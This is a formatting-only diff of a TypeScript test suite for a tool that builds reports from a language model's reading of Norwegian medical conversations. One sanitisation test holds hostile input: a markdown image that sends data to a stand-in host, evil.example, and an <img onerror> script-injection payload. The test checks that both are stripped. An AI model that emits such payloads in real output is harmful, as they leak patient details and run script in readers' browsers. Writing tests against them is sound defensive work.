@@ -126,7 +126,10 @@ describe('a report of a language model', () => {
   })
 
   test('links, pictures and tags of a model do not reach the report', async () => {
-    const report = await written({ facts: [fact('summary', '- Vondt i kneet ![x](https://evil.example/?q=kne) [les mer](https://evil.example) <img src=x onerror=alert(1)>', [1])], medicines: [] })
+    const report = await written({
+      facts: [fact('summary', '- Vondt i kneet ![x](https://evil.example/?q=kne) [les mer](https://evil.example) <img src=x onerror=alert(1)>', [1])],
+      medicines: [],
+    })
     expect(textOf(report)).toContain('Vondt i kneet')
     expect(textOf(report)).not.toMatch(/https?:|<|\]\(/)
   })
@@ -181,7 +184,9 @@ describe('a report of a language model', () => {
   })
 
   test('a long talk is asked about in parts that overlap, and its facts are joined', async () => {
-    const filler = Array.from({ length: 900 }, (_, at) => `Lege: Vi snakker videre om hverdagen og om hvordan det går på jobben, nummer ${String(at)}.`).join('\n')
+    const filler = Array.from({ length: 900 }, (_, at) => `Lege: Vi snakker videre om hverdagen og om hvordan det går på jobben, nummer ${String(at)}.`).join(
+      '\n',
+    )
     const numberOf = (part: Asked, words: string): number[] =>
       (JSON.parse(part.material) as { sources: { statements: { id: number; text: string }[] }[] }).sources.flatMap(({ statements }) =>
         statements.filter(({ text }) => text.includes(words)).map(({ id }) => id))
